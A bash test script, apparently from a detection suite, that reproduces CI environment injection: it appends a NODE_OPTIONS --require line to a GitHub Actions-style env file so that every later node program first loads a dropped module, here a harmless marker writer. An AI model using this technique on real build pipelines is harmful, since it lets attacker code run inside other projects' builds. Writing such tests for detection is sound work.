#!/bin/bash
# technique: T1574 Hijack Execution Flow; T1546 Event Triggered Execution; T1677 Poisoned Pipeline Execution
# reproduces: GitHub Actions environment injection (CVE-2020-15228, the `set-env` workflow command; the same through $GITHUB_ENV, where a line appended sets a variable for every later step), here NODE_OPTIONS=--require pointing at a module dropped in a temporary directory, which every later node program loads first
# expect: startup-file-injection ^node(js)?$
# exec-borne: no
#
# The "next step" is simulated: the env file is read back and exported,
# as the runner does between steps, then a harmless node program runs.
set -u

command -v node >/dev/null 2>&1 || { echo "node not installed" >&2; exit 77; }

work=$(mktemp -d "${BW_ATTACK_TMP:?}/_runner_file_commands-XXXXXX")
trap 'rm -rf "$work"' EXIT
env_file="$work/set_env_$$"

cat >"$work/telemetry.js" <<'JS'
require('fs').appendFileSync(process.env.BW_ATTACK_MARK, process.pid + ' node-options\n');
JS
# step 1: the injected line
echo "NODE_OPTIONS=--require $work/telemetry.js" >>"$env_file"

# step 2: the runner exports it, a build tool runs node
while IFS='=' read -r name value; do
	export "$name=$value"
done <"$env_file"
node -e 'process.exit(0)'
